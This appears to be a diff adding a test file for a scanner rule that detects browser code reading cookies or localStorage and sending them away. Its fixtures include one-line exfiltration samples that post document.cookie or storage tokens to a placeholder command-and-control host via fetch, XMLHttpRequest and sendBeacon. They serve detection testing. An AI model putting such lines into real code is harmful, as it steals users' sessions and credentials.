@@ -1,0 +1,41 @@
+import { examine } from '../../../test/examine.ts';
+import { readsBrowserStorageAndSends } from './reads-browser-storage-and-sends.ts';
+
+examine(readsBrowserStorageAndSends, {
+  speaks: [
+    {
+      when: 'cookies go into an address at import',
+      files: { 'index.js': `fetch('https://c2.invalid/?c=' + document.cookie)` },
+      weight: 'strong',
+      says: ['document.cookie'],
+    },
+    {
+      when: 'the whole storage is posted',
+      files: { 'index.js': `const x = new XMLHttpRequest(); x.open('POST', 'https://c2.invalid/'); x.send(JSON.stringify(localStorage))` },
+      weight: 'strong',
+    },
+    {
+      when: 'one entry is sent at import',
+      files: { 'index.js': `navigator.sendBeacon('https://c2.invalid/', localStorage.getItem('token'))` },
+      weight: 'weak',
+    },
+    {
+      when: 'cookies are sent when called',
+      files: { 'index.js': `export const track = () => fetch('https://stats.invalid/', { method: 'POST', body: document.cookie })` },
+      weight: 'weak',
+    },
+  ],
+  silent: [
+    {
+      when: 'a client adds its token when called',
+      files: {
+        'index.js': `export const get = url => fetch('https://api.invalid/', { headers: { authorization: localStorage.getItem('token') } })`,
+      },
+    },
+    {
+      when: 'the caller says where to',
+      files: { 'index.js': `export const post = url => fetch(url, { method: 'POST', body: document.cookie })` },
+    },
+    { when: 'it goes back to its own page', files: { 'index.js': `fetch('/session?' + document.cookie)` } },
+  ],
+});
